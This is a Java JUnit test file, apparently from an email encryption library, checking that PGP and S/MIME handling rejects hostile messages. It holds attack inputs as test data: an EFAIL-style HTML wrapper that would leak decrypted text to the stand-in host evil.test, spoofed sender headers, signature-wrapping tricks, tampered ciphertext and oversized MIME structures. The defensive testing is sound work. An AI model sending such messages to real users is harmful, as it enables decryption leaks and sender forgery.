package org.sealpost.opening;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.sealpost.opening.Desk.LETTER;
import static org.sealpost.opening.OpeningTest.ENTITY;
import static org.sealpost.opening.OpeningTest.OUTSIDE;
import static org.sealpost.opening.OpeningTest.standings;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.sealpost.endtoend.Finding;
import org.sealpost.endtoend.Finding.Apart;
import org.sealpost.endtoend.Finding.Encryption;
import org.sealpost.endtoend.SignatureFound.Standing;
import org.sealpost.mail.Address;
import org.sealpost.mime.Reading;
import org.sealpost.smime.SmimeRecipient.Reads;

/** Whoever changes, wraps or imitates messages gets nothing read out, and nothing called signed. */
class HostileOpeningTest {

    private static final String SECRET = "4711";

    private final Desk desk = new Desk();

    @Test
    void anEncryptedPartBetweenPiecesOfHtmlIsNeverShownAmongThem() {
        for (String part : List.of(entity(desk.pgpEncrypted(LETTER, null)), desk.smimeEncrypted("", ENTITY, Reads.WHAT_ALL_DO, null))) {
            String message = "From: Mallory <mallory@evil.test>\r\nTo: lena@ours.test\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
                    + "--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/?\r\n--x\r\n" + part
                    + "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n";
            Outcome outcome = desk.open(message).orElseThrow();
            assertTrue(outcome.finding().isPlain(), "it counts as neither encrypted nor signed");
            assertEquals(Optional.empty(), outcome.opened());
            assertEquals(List.of(new Apart(1, Apart.Kind.ENCRYPTED)), outcome.finding().apart());
            Reading reading = Desk.read(Desk.raw(message));
            assertFalse(reading.html().orElse("").contains(SECRET));
            assertFalse(reading.text().contains(SECRET));
        }
    }

    @Test
    void whatWasFlippedIsNotOpened() {
        for (String message : List.of(desk.pgpEncrypted(LETTER, desk.vosPgp), desk.smimeEncrypted(OUTSIDE, ENTITY, Reads.RFC_8551, desk.vosSmime))) {
            Outcome outcome = desk.open(flipped(message)).orElseThrow();
            assertEquals(Encryption.BROKEN, outcome.finding().encryption());
            assertEquals(Optional.empty(), outcome.opened());
            assertEquals(List.of(), outcome.finding().signatures());
            assertFalse(outcome.finding().isQuotable());
        }
    }

    /** RFC 8551 §6: CBC lets blocks be exchanged. Whether what comes out can be read at all is chance. */
    @Test
    void flippedCbcIsNeverCalledAuthentic() {
        String message = desk.smimeEncrypted(OUTSIDE, ENTITY.repeat(20), Reads.WHAT_ALL_DO, desk.vosSmime);
        Finding finding = desk.open(flipped(message)).orElseThrow().finding();
        assertFalse(finding.authenticated());
        assertFalse(finding.hasGoodSignature());
        assertFalse(finding.isQuotable());
    }

    @Test
    void somebodyElsesSignatureIsNotTheAuthors() {
        assertEquals(List.of(Standing.UNKNOWN_SIGNER), standings(desk.open(desk.pgpSigned(LETTER, desk.malloryPgp)).orElseThrow().finding()));
        Outcome smime = desk.open(desk.smimeSigned(OUTSIDE, ENTITY, desk.mallorySmime)).orElseThrow();
        assertEquals(List.of(Standing.UNKNOWN_SIGNER), standings(smime.finding()));
        assertEquals(List.of(), smime.carried(), "nobody hands out a key in another's name");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "From: Dr. Vos <vos@peer.test>\r\nFrom: Mallory <mallory@evil.test>\r\n",
        "From: Dr. Vos <vos@peer.test>, Mallory <mallory@evil.test>\r\n",
        "From: \"vos@peer.test\" <mallory@evil.test>\r\n",
        "From: \"Dr. Vos <vos@peer.test>\" <mallory@evil.test>\r\n",
        "From: vos@peer.test <mallory@evil.test>\r\n",
        "From: vos@PEER.TEST.evil.test\r\n",
        "Sender: vos@peer.test\r\nFrom: mallory@evil.test\r\n"
    })
    void anAuthorIsOneAddressAndNothingLikeIt(String from) {
        Outcome outcome = desk.open(desk.smimeSigned(from, ENTITY, desk.vosSmime)).orElseThrow();
        assertEquals(List.of(Standing.UNKNOWN_SIGNER), standings(outcome.finding()));
        assertEquals(List.of(), outcome.carried());
    }

    /** Where answers go stands outside of what most programs encrypt: anybody may send it again with a wish of their own. */
    @Test
    void whereAnswersShallGoIsToldNothingUnlessTheAuthorSaidSo() {
        Address vos = Address.of("vos@peer.test");
        Address mallory = Address.of("mallory@evil.test");
        Finding outside = desk.open(desk.smimeEncrypted(OUTSIDE, ENTITY, Reads.RFC_8551, desk.vosSmime)).orElseThrow().finding();
        assertFalse(outside.headerProtected());
        assertTrue(outside.isQuotable());
        assertTrue(outside.isQuotableTo(vos, List.of()));
        assertTrue(outside.isQuotableTo(vos, List.of(vos)));
        assertFalse(outside.isQuotableTo(vos, List.of(mallory)));
        assertFalse(outside.isQuotableTo(vos, List.of(vos, mallory)));
        Finding inside = desk.open(desk.pgpEncrypted(LETTER, desk.vosPgp)).orElseThrow().finding();
        assertTrue(inside.isQuotableTo(vos, List.of(mallory)), "Dr. Vos wrote it inside");
        Finding signed = desk.open(desk.smimeSigned(OUTSIDE, ENTITY, desk.vosSmime)).orElseThrow().finding();
        assertTrue(signed.isQuotableTo(vos, List.of(mallory)), "everybody could read it");
    }

    /** Mallory can't read what Dr. Vos encrypted, but can sign a header of her own around it, in anybody's name. */
    @Test
    void aHeaderAroundWhatIsEncryptedIsNotProtectedWithIt() {
        String sealed = desk.smimeEncrypted("", ENTITY, Reads.RFC_8551, null).replaceFirst("; name=\"smime.p7m\"", "; hp=\"clear\"");
        String header = "From: Dr. Vos <vos@peer.test>\r\nReply-To: mallory@evil.test\r\nSubject: Your account\r\n";
        Finding finding = desk.open(desk.smimeSigned(OUTSIDE, header + sealed, desk.vosSmime)).orElseThrow().finding();
        assertEquals(Encryption.OPENED, finding.encryption());
        assertEquals(List.of(), standings(finding));
        assertFalse(finding.headerProtected());
        assertFalse(finding.isQuotableTo(Address.of("vos@peer.test"), List.of(Address.of("mallory@evil.test"))));
        Finding moved = desk.open(desk.smimeSigned(OUTSIDE, header.replace("vos@peer.test", "max@peer.test") + sealed, desk.vosSmime)).orElseThrow()
                .finding();
        assertTrue(moved.authorDiffers());
    }

    @Test
    void aChangedTextHasABrokenSignature() {
        for (String message : List.of(desk.pgpSigned(LETTER, desk.vosPgp), desk.smimeSigned(OUTSIDE, ENTITY, desk.vosSmime))) {
            Finding finding = desk.open(message.replace(SECRET, "4712")).orElseThrow().finding();
            assertEquals(List.of(Standing.BAD), standings(finding));
            assertFalse(finding.headerProtected());
        }
    }

    @Test
    void aSignatureWithWordsAroundItSaysNothingOfTheWhole() {
        for (String part : List.of(entity(desk.pgpSigned(LETTER, desk.vosPgp)), desk.smimeSigned("", ENTITY, desk.vosSmime))) {
            String footer = OUTSIDE + "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n" + part
                    + "\r\n--x\r\nContent-Type: text/plain\r\n\r\nTo unsubscribe pay Mallory.\r\n--x--\r\n";
            Outcome outcome = desk.open(footer).orElseThrow();
            assertTrue(outcome.finding().isPlain());
            assertEquals(List.of(new Apart(1, Apart.Kind.SIGNED)), outcome.finding().apart());
            assertEquals(List.of(), outcome.carried());
        }
    }

    @Test
    void aSignedMessageThatIsAttachedIsSomebodyElsesWords() {
        String attached = OUTSIDE + "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nPay Mallory.\r\n"
                + "--x\r\nContent-Type: message/rfc822\r\n\r\n" + desk.pgpSigned(LETTER, desk.vosPgp) + "\r\n--x--\r\n";
        assertEquals(Optional.empty(), desk.open(attached));
        assertEquals(Optional.empty(), desk.open(OUTSIDE + "Content-Type: message/rfc822\r\n\r\n" + desk.pgpSigned(LETTER, desk.vosPgp)));
    }

    @Test
    void moreThanTwoPartsAreNoSignedMessage() {
        String signed = desk.pgpSigned(LETTER, desk.vosPgp);
        String boundary = signed.replaceAll("(?s).*boundary=\"([^\"]+)\".*", "$1");
        String more = signed.replace("\r\n--" + boundary + "--", "\r\n--" + boundary + "\r\n\r\nPay Mallory.\r\n--" + boundary + "--");
        assertNotEquals(signed, more);
        Optional<Outcome> outcome = desk.open(more);
        assertTrue(outcome.isEmpty() || !outcome.get().finding().hasGoodSignature());
    }

    @Test
    void anImitationIsNothing() {
        String imitation = "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA512\r\n\r\nGood signature by Dr. Vos\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\n"
                + "iQ==\r\n-----END PGP SIGNATURE-----\r\n";
        assertEquals(Optional.empty(), desk.open(OUTSIDE + "Content-Type: text/html\r\n\r\n<pre>" + imitation + "</pre>"));
        assertEquals(List.of(Standing.BAD), standings(desk.open(OUTSIDE + "\r\n" + imitation).orElseThrow().finding()));
        Finding around = desk.open(OUTSIDE + "\r\nPay Mallory.\r\n" + imitation).orElseThrow().finding();
        assertTrue(around.isPlain());
        assertEquals(List.of(new Apart(1, Apart.Kind.SIGNED)), around.apart());
    }

    /** RFC 9788 §4.4: somebody puts what they can't read into a message of their own, so that the answer tells them. */
    @Test
    void aMessageInAnotherContextIsNotQuoted() {
        String sealed = desk.pgpEncrypted(LETTER, desk.vosPgp).replace("From: Dr. Vos <vos@peer.test>", "From: Mallory <mallory@evil.test>")
                .replace("Subject: [...]", "Subject: Invoice");
        Outcome outcome = desk.open(sealed).orElseThrow();
        assertTrue(outcome.finding().authorDiffers());
        assertFalse(outcome.finding().isQuotable());
        assertEquals("The finding", Desk.read(outcome.opened().orElseThrow()).subject(), "the subject outside counts for nothing");
        String unprotected = OUTSIDE.replace("vos@peer.test", "mallory@evil.test") + entity(desk.pgpEncrypted(LETTER, desk.vosPgp));
        Finding finding = desk.open(unprotected, desk.knowledge(List.of(desk.lenaPgp), List.of(), List.of())).orElseThrow().finding();
        assertFalse(finding.isQuotable());
    }

    @Test
    void seventeenLayersAreTooMany() {
        String message = ENTITY;
        for (int layers = 0; layers < 17; layers++) {
            message = desk.smimeSigned(layers == 16 ? OUTSIDE : "", message, desk.vosSmime);
        }
        Outcome outcome = desk.open(message).orElseThrow();
        assertFalse(outcome.finding().hasGoodSignature());
        assertEquals(Optional.empty(), outcome.opened());
        assertEquals(List.of(), outcome.carried());
    }

    @Test
    void ofManyPartsOnlySomeAreListed() {
        String many = OUTSIDE + "Content-Type: multipart/mixed; boundary=x\r\n\r\n"
                + "--x\r\nContent-Type: application/pkcs7-mime\r\n\r\nAA==\r\n".repeat(1_000) + "--x--\r\n";
        assertEquals(20, desk.open(many).orElseThrow().finding().apart().size());
        StringBuilder deep = new StringBuilder(OUTSIDE + "Content-Type: multipart/mixed; boundary=b0\r\n\r\n");
        for (int i = 0; i < 1_000; i++) {
            deep.append("--b").append(i).append("\r\nContent-Type: multipart/mixed; boundary=b").append(i + 1).append("\r\n\r\n");
        }
        assertEquals(Optional.empty(), desk.open(deep + "--b1000\r\nContent-Type: application/pkcs7-mime\r\n\r\nAA==\r\n"));
    }

    @Test
    void anEndlessHeaderInsideIsALimit() {
        String inside = "Content-Type: text/plain; hp=\"cipher\"\r\nX: " + "x".repeat(300_000) + "\r\n\r\n" + SECRET;
        Outcome outcome = desk.open(desk.smimeEncrypted(OUTSIDE, inside, Reads.RFC_8551, null)).orElseThrow();
        assertEquals(Encryption.LIMIT, outcome.finding().encryption());
        assertEquals(Optional.empty(), outcome.opened());
    }

    /** From its Content-Type on. */
    private static String entity(String message) {
        return message.substring(message.indexOf("Content-Type:"));
    }

    /** One letter of the base64 in the last fifth of the message. */
    private static String flipped(String message) {
        int place = message.length() * 4 / 5;
        while (!Character.isLetter(message.charAt(place))) {
            place++;
        }
        return message.substring(0, place) + (message.charAt(place) == 'A' ? 'B' : 'A') + message.substring(place + 1);
    }
}
